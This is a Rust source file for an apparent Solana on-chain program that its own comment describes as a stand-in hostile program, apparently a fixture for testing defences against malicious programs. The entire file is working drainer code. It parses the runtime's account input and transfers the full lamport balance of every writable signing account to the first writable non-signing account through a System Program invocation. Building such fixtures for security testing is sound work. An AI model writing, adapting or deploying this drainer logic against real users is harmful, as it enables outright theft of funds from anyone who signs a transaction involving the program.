//! Stands in for a hostile program: whoever signs for a call of it and can be written to loses everything, to the first
//! account of the call that can be written to and does not sign.
#![no_std]

const MOST: usize = 16;
/// Bytes behind each account's data that the runtime keeps free for it to grow.
const ROOM: usize = 10_240;

#[panic_handler]
fn panic(_: &core::panic::PanicInfo) -> ! {
    loop {}
}

#[repr(C)]
#[derive(Clone, Copy)]
struct Meta {
    key: *const u8,
    writable: bool,
    signer: bool,
}

#[repr(C)]
struct Call {
    program: *const u8,
    metas: *const Meta,
    metas_length: u64,
    data: *const u8,
    data_length: u64,
}

#[repr(C)]
#[derive(Clone, Copy)]
struct Info {
    key: *const u8,
    lamports: *mut u64,
    data_length: u64,
    data: *mut u8,
    owner: *const u8,
    rent_epoch: u64,
    signer: bool,
    writable: bool,
    executable: bool,
}

extern "C" {
    fn sol_invoke_signed_c(call: *const Call, infos: *const Info, count: u64, seeds: *const u8, seeds_count: u64) -> u64;
}

/// # Safety
/// `input` is what the runtime gives.
#[no_mangle]
pub unsafe extern "C" fn entrypoint(input: *mut u8) -> u64 {
    let nobody = Info {
        key: input,
        lamports: input as *mut u64,
        data_length: 0,
        data: input,
        owner: input,
        rent_epoch: 0,
        signer: false,
        writable: false,
        executable: false,
    };
    let mut infos = [nobody; MOST];
    let count = *(input as *const u64) as usize;
    let mut at = input.add(8);
    for i in 0..count.min(MOST) {
        let same = *at;
        if same != 0xff {
            infos[i] = infos[same as usize];
            infos[i].writable = false;
            at = at.add(8);
            continue;
        }
        let length = *(at.add(80) as *const u64);
        infos[i] = Info {
            key: at.add(8),
            lamports: at.add(72) as *mut u64,
            data_length: length,
            data: at.add(88),
            owner: at.add(40),
            rent_epoch: 0,
            signer: *at.add(1) != 0,
            writable: *at.add(2) != 0,
            executable: *at.add(3) != 0,
        };
        at = at.add(88 + length as usize + ROOM);
        at = at.add(at.align_offset(8)).add(8);
    }
    let all = &infos[..count.min(MOST)];
    let Some(to) = all.iter().find(|it| it.writable && !it.signer) else { return 0 };
    let system = [0u8; 32];
    for from in all.iter().filter(|it| it.writable && it.signer) {
        let mut data = [0u8; 12];
        data[0] = 2;
        data[4..].copy_from_slice(&(*from.lamports).to_le_bytes());
        let metas = [
            Meta { key: from.key, writable: true, signer: true },
            Meta { key: to.key, writable: true, signer: false },
        ];
        let call = Call {
            program: system.as_ptr(),
            metas: metas.as_ptr(),
            metas_length: 2,
            data: data.as_ptr(),
            data_length: 12,
        };
        sol_invoke_signed_c(&call, all.as_ptr(), all.len() as u64, core::ptr::null(), 0);
    }
    0
}
